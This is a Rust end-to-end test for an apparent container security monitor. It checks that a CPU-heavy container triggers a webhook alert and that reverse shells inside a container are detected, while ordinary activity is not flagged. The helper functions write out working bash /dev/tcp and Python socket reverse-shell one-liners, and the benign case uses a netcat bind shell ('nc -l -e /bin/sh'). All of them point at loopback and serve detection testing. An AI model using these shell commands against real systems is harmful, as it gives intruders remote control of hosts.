//! The whole way with real containers: one burns CPU and an alert reaches the webhook; shells
//! that lead to a remote peer give one finding each, and ordinary work gives none.

use std::{
    io::Write,
    net::{Ipv4Addr, TcpListener},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use vedette_e2e::{
    containers::{Containerd, unavailable},
    parts,
    program::Vedette,
    skip, wait_for,
    webhook::Webhook,
};

/// Name, and the command that connects to a port on loopback.
type Attack = (&'static str, fn(u16) -> Vec<String>);

const PATIENCE: Duration = Duration::from_secs(90);

#[test]
#[expect(clippy::disallowed_methods, reason = "the time from attack to finding is told")]
fn a_busy_container_alerts_and_reverse_shells_are_found() -> Result<()> {
    if let Some(reason) = unavailable() {
        skip!("containers", "{reason}");
    }
    let folder = tempfile::tempdir()?;
    let mut containerd = Containerd::start(&folder.path().join("containerd"))?;
    let hook = Webhook::start()?;
    let config = format!(
        "collect: {{runtime_sockets: [{}]}}\nnotify:\n  group_wait: 1s\n  receivers:\n  - name: hook\n    webhook: {{url: '{}'}}\n  - name: log\n    file: {{path: notifications.jsonl}}\n",
        containerd.socket().display(),
        hook.url()
    );
    let mut vedette = Vedette::start(folder.path(), Some(&config))?;
    vedette.wait_ready(Duration::from_secs(30))?;
    containerd.run("quiet", &python_mounts(), "while :; do sleep 1; done")?;
    containerd.run("burner", &[], "while :; do :; done & while :; do :; done")?;
    let preferred = containerd.preferred();

    for name in ["quiet", "burner"] {
        // A runtime that is slow to answer is not waited for: until it does, the row has no image.
        let query = format!("container_memory_working_set_bytes{{name=\"{name}\",image!=\"\"}}");
        let rows = wait_for("the container's memory", PATIENCE, || {
            Ok(Some(vedette.query(&query)?).filter(|r| !r.is_empty()))
        })?;
        ensure!(rows[0].0["image"] == vedette_e2e::containers::IMAGE, "{rows:?}");
    }
    wait_for("the burner's CPU", PATIENCE, || {
        let rows = vedette.query("rate(container_cpu_usage_seconds_total{name=\"burner\"}[10s])")?;
        Ok(rows.first().is_some_and(|(_, v)| *v > 0.3).then_some(()))
    })?;
    wait_for("the alert at the webhook", PATIENCE, || {
        let alerts = hook.alerts();
        Ok(alerts
            .iter()
            .any(|(name, status, a)| {
                name == "ContainerCpuHigh" && status == "firing" && a["labels"]["name"] == "burner"
            })
            .then_some(()))
    })?;
    let alerts = vedette.get("/api/v1/alerts")?;
    ensure!(
        alerts["data"]["alerts"]
            .as_array()
            .is_some_and(|a| a.iter().any(|a| a["labels"]["alertname"] == "ContainerCpuHigh")),
        "{alerts}"
    );

    drop(preferred);

    if let Err(reason) = vedette.sensor()? {
        skip!("containers: reverse shells", "{reason}");
    }
    ordinary_work(&containerd)?;
    ensure!(findings(&vedette)?.is_empty(), "ordinary work gave {:?}", findings(&vedette)?);

    let attacks: [Attack; 2] = [("bash", bash_shell), ("python", python_shell)];
    for (number, (name, command)) in attacks.into_iter().enumerate() {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        let command = command(listener.local_addr()?.port());
        let start = Instant::now();
        let mut attack = containerd.exec(
            "quiet",
            &format!("attack-{name}"),
            &command.iter().map(String::as_str).collect::<Vec<_>>(),
        )?;
        let (mut peer, _) = listener.accept()?;
        let connected = start.elapsed();
        let found = wait_for(&format!("the finding of the {name} shell"), PATIENCE, || {
            Ok(Some(findings(&vedette)?).filter(|f| f.len() > number))
        })?;
        println!(
            "{name}: finding visible {:?} after the connection",
            start.elapsed().saturating_sub(connected)
        );
        ensure!(found.len() == number + 1, "one finding each: {found:#?}");
        let finding = found
            .iter()
            .max_by_key(|f| {
                f["first_unix_nano"].as_str().map(str::len).map(|_| f["first_unix_nano"].to_string())
            })
            .context("a finding")?;
        ensure!(finding["rule"] == "reverse-shell", "{finding}");
        ensure!(finding.to_string().contains("quiet"), "the container is named: {finding}");
        ensure!(finding["ancestry"].as_array().is_some_and(|a| a.len() > 1), "ancestry: {finding}");
        peer.write_all(b"exit\n")?;
        drop(peer);
        attack.wait()?;
    }
    wait_for("the findings at the webhook", PATIENCE, || {
        let told = hook
            .alerts()
            .iter()
            .filter(|(_, s, a)| s == "firing" && a.to_string().contains("reverse"))
            .count();
        Ok((told >= 2).then_some(()))
    })?;
    // Each receiver has its own time.
    let file = wait_for("both in the file", PATIENCE, || {
        let file = std::fs::read_to_string(folder.path().join("data/notifications.jsonl"))?;
        Ok(Some(file).filter(|file| file.lines().count() >= 2))
    })?;
    ensure!(file.lines().all(|l| serde_json::from_str::<Value>(l).is_ok()), "{file}");
    ensure!(findings(&vedette)?.len() == 2, "still one finding each: {:#?}", findings(&vedette)?);
    Ok(())
}

fn findings(vedette: &Vedette) -> Result<Vec<Value>> {
    let answer = vedette.get("/api/vedette/v1/findings")?;
    let all = answer["findings"].as_array().cloned().unwrap_or_default();
    Ok(all.into_iter().filter(|f| f["rule"] == "reverse-shell").collect())
}

fn bash_shell(port: u16) -> Vec<String> {
    ["/bin/bash", "-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")].map(str::to_owned).to_vec()
}

fn python_shell(port: u16) -> Vec<String> {
    let script = format!(
        "import socket,os,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\nfor i in (0,1,2): os.dup2(s.fileno(),i)\nsubprocess.call(['/bin/sh','-i'])\n"
    );
    ["/usr/bin/python3.11", "-c", &script].map(str::to_owned).to_vec()
}

/// Debian's python for the container, as it is unpacked: nothing is copied.
fn python_mounts() -> Vec<&'static str> {
    let mount = |from: &str, to: &str| -> [&'static str; 2] {
        let text = format!("type=bind,src={},dst={to},options=rbind:ro", parts().join(from).display());
        ["--mount", Box::leak(text.into_boxed_str())]
    };
    [mount("usr", "/usr"), mount("lib", "/lib"), mount("lib64", "/lib64")].concat()
}

/// 500 programs, pipes between them, and a server that gives its callers a shell over a
/// connection that they opened, as sshd and inetd do.
fn ordinary_work(containerd: &Containerd) -> Result<()> {
    let shell =
        "i=0; while [ $i -lt 500 ]; do /bin/true; i=$((i+1)); done; echo a | cat | sh -c 'cat >/dev/null'";
    ensure!(containerd.exec("quiet", "ordinary", &["/bin/sh", "-c", shell])?.wait()?.success());
    let port = vedette_e2e::program::free_port()?;
    let mut server = containerd.exec(
        "quiet",
        "server",
        &["/bin/busybox", "nc", "-l", "-p", &port.to_string(), "-e", "/bin/sh"],
    )?;
    let mut stream = wait_for("the server", Duration::from_secs(20), || {
        Ok(std::net::TcpStream::connect((Ipv4Addr::LOCALHOST, port)).ok())
    })?;
    stream.write_all(b"echo hello; exit\n")?;
    server.wait()?;
    let local = Command::new("/bin/sh")
        .args(["-c", "for i in 1 2 3; do /bin/true; done"])
        .stdin(Stdio::null())
        .status()?;
    ensure!(local.success());
    // What was seen must have gone through detection before anybody says that nothing was found.
    std::thread::sleep(Duration::from_secs(2));
    Ok(())
}
